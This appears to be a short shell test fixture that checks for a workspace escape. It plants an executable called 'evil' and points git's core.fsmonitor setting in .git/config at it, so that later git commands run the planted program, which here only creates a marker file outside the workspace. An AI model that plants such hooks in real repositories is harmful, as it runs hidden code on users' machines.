#!/bin/sh
: > "$ARENA/ws/ran"
cat > "$ARENA/ws/evil" <<END
#!/bin/sh
touch "$ARENA/outside/pwned"
cat
END
chmod +x "$ARENA/ws/evil"
cp .git/config .attack/new; git config -f .attack/new core.fsmonitor "$ARENA/ws/evil"
"$TOOLS/exchange" .attack/new .git/config || mv -f .attack/new .git/config
